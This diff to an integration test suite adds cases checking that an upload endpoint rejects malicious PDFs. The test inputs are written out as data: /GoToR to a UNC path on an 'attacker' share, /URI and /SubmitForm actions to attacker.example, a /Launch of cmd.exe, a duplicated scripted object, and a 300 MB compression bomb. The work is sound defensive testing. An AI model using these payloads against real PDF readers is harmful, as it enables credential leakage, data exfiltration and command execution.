@@ -15,6 +15,8 @@ import { signToken } from '../../src/http/auth.js'
 import { createMetrics, type Metrics } from '../../src/http/metrics.js'
 import { createObjectStore } from '../../src/storage/index.js'
 import { fixture } from '../support/fixtures.js'
+import { scanPdf, validatePdf } from '../../src/images/index.js'
+import { BASE_OBJECTS, GOTO_ACTION, JS_ACTION, deflatedZeros, rawPdf, withContentStream, withLink, withOpenAction } from '../support/pdfs.js'
 import { BACKENDS, objectKeys, openTestStorage, type TestStorage } from '../support/storage.js'
 import { multipart, type Part } from './support/app.js'
 
@@ -327,7 +329,8 @@ for (const backend of BACKENDS) {
         expect(Date.parse(expiresAt) - Date.now()).toBeGreaterThan(60_000)
         const got = await download(url)
         expect(got.status).toBe(200)
-        expect(got.body.equals(bytes.pdf)).toBe(true)
+        // The document as validatePdf writes it out again (one definition per object).
+        expect(got.body.equals((await validatePdf(bytes.pdf)).data)).toBe(true)
         expect(got.headers['content-disposition']).toMatch(/^attachment; filename="Passport scan.pdf"/)
         if (backend === 'embedded') {
           expect(url.startsWith(`${base}/files/verification/`)).toBe(true)
@@ -496,6 +499,17 @@ for (const backend of BACKENDS) {
         ['unterminated multipart body', (() => { const f = multipart([filePart(bytes.png, 'a.png', 'image/png')], { terminate: false }); return call('POST', '/v1/items/item-h/photos', 'alice', { headers: f.headers, body: f.payload }) })(), 400, 'VALIDATION_FAILED'],
         ['encrypted PDF', upload('POST', '/v1/verification-documents', 'alice', [{ name: 'type', data: 'passport' }, filePart(await readFile(fixture('docs/pdf-encrypted-password.pdf')), 'p.pdf', 'application/pdf')]), 422, 'INVALID_PDF'],
       )
+      const pdfCase = async (name: string, pdf: Buffer, status: number, code: string) => {
+        cases.push([name, upload('POST', '/v1/verification-documents', 'alice', [{ name: 'type', data: 'passport' }, filePart(pdf, 'p.pdf', 'application/pdf')]), status, code])
+      }
+      // Scripted PDFs that a reader and a parser would read differently, actions that leave the
+      // document, and compression bombs.
+      await pdfCase('PDF with a scripted object defined twice', rawPdf([{ objects: [...BASE_OBJECTS, { num: 4, body: JS_ACTION }, { num: 4, body: GOTO_ACTION }], xref: { 4: 0 } }]), 422, 'UNSAFE_PDF')
+      await pdfCase('PDF with /GoToR to a UNC path', withOpenAction('<< /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >>'), 422, 'UNSAFE_PDF')
+      await pdfCase('PDF with a /URI link', withLink('<< /S /URI /URI (https://attacker.example/) >>'), 422, 'UNSAFE_PDF')
+      await pdfCase('PDF with /SubmitForm', withOpenAction('<< /S /SubmitForm /F << /FS /URL /F (https://attacker.example/) >> >>'), 422, 'UNSAFE_PDF')
+      await pdfCase('PDF with /Launch', withOpenAction('<< /S /Launch /F (cmd.exe) >>'), 422, 'UNSAFE_PDF')
+      await pdfCase('PDF compression bomb', withContentStream(await deflatedZeros(300 * 1024 * 1024), '/FlateDecode'), 422, 'PDF_LIMIT_EXCEEDED')
       for (const [name, pending, status, code] of cases) {
         const res = await pending
         expect([name, res.status, res.json().code], res.body.toString()).toEqual([name, status, code])
@@ -543,6 +557,10 @@ for (const backend of BACKENDS) {
       const { url } = (await call('GET', `/v1/files/${view.id as string}/url`, 'alice')).json() as { url: string }
       const got = await download(url)
       expect(got.status).toBe(200)
+      // The stored document is the validated one written out again, not the upload's bytes.
+      expect(got.body.subarray(0, 5).toString()).toBe('%PDF-')
+      expect(got.body.equals(bytes.pdf)).toBe(false)
+      expect((await scanPdf(got.body)).revisions).toBe(1)
       const disposition = got.headers['content-disposition'] as string
       expect(disposition).toMatch(/^attachment; filename="[\x20-\x7e]*"; filename\*=UTF-8''[A-Za-z0-9%!#$&+^_`|~.-]+$/)
       expect(disposition).not.toMatch(/\.\.\/|\/etc\//)
